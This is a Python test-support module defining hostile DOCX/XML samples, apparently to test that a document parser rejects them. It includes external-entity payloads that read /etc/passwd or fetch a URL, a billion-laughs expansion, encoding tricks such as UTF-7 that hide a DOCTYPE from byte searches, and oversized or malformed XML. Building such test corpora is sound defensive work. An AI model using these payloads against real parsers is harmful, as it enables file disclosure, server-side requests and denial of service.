"""XML that reads files, calls a server, expands, or hides from a search of its bytes."""

from collections.abc import Mapping
from itertools import pairwise
from zipfile import ZIP_STORED

from tests.support.attacks.attack import URL, Attack
from tests.support.carriers import repacked
from tests.support.docx import NAMES, p, word_file

_BODY = f"<w:document {NAMES}><w:body>{p('x')}</w:body></w:document>"
_HIDDEN = '<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
_LAUGHS = '<!ENTITY a "xxxxxxxxxx">' + "".join(
    f'<!ENTITY {after} "&{before};&{before};">' for before, after in pairwise("abcdefghijklmnopqrstu")
)


def _entity(declaration: str, use: str) -> Attack:
    return Attack(word_file(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>", prolog=f"<!DOCTYPE w [{declaration}]>"), "KH807")


def _as(content: bytes, name: str = "word/document.xml") -> Attack:
    return Attack(repacked(word_file(p("x")), name, content), "KH807")


def _encoded(encoding: str, declared: str = "", blanks: int = 1) -> Attack:
    declaration = f'<?xml version="1.0"{" " * blanks}encoding="{declared or encoding}"?>'
    return _as((declaration + _HIDDEN + _BODY).encode(encoding))


ATTACKS: Mapping[str, Attack] = {
    "billion laughs": _entity(_LAUGHS, "&u;"),
    "a file by entity": _entity('<!ENTITY f SYSTEM "file:///etc/passwd">', "&f;"),
    "the network by entity": _entity(f'<!ENTITY f SYSTEM "{URL}">', "&f;"),
    "the network by a parameter entity": _entity(f'<!ENTITY % f SYSTEM "{URL}"> %f;', "x"),
    "a document type from the network": Attack(word_file(p("x"), prolog=f'<!DOCTYPE w SYSTEM "{URL}">'), "KH807"),
    "an entity in an attribute": _as(
        f"<!DOCTYPE w [{_LAUGHS}]>{_BODY}".replace("<w:body>", '<w:body w:x="&u;">').encode()),
    "a document type among the relationships": _as(f'<!DOCTYPE w SYSTEM "{URL}"><x/>'.encode(), "_rels/.rels"),
    "a document type among the types": _as(f'<!DOCTYPE w SYSTEM "{URL}"><x/>'.encode(), "[Content_Types].xml"),
    "UTF-16": _encoded("utf-16"),
    "UTF-16 without a mark": _encoded("utf-16-le"),
    "UTF-16 that nothing declares": _as((_HIDDEN + _BODY).encode("utf-16-be")),
    "UTF-32": _encoded("utf-32"),
    "EBCDIC": _encoded("cp037"),
    # «<» as UTF-7 writes it: no search for «<!DOCTYPE» finds it
    "UTF-7": _as(b'<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE w SYSTEM "x"+AD4-<x/>'),
    "UTF-7 declared late": _as(
        b'<?xml version="1.0"' + b" " * 300 + b'encoding="utf-7"?>+ADw-!DOCTYPE w SYSTEM "x"+AD4-<x/>'),
    "Latin-1 that calls itself UTF-8": _as(_BODY.replace("x</w:t>", "é</w:t>").encode("latin-1")),
    "nested without end": Attack(word_file("<w:p>" * 3000 + "</w:p>" * 3000), "KH807"),
    "an attribute without end": Attack(
        repacked(word_file(p("x")), "word/styles.xml", b'<x y="' + b"x" * 11_000_000 + b'"/>', ZIP_STORED), "KH807"),
    "a measure that Word does not read": Attack(
        word_file(p("x").replace("<w:r>", '<w:pPr><w:ind w:left="1e308"/></w:pPr><w:r>')), "KH807"),
    "not closed": _as(_BODY[:-3].encode()),
    "two attributes of one name": _as(_BODY.replace("<w:body>", '<w:body w:x="" w:x="">').encode()),
    "a character that XML does not know": _as(_BODY.replace("x</w:t>", "&#x1;</w:t>").encode()),
    "empty": _as(b""),
}  # fmt: skip
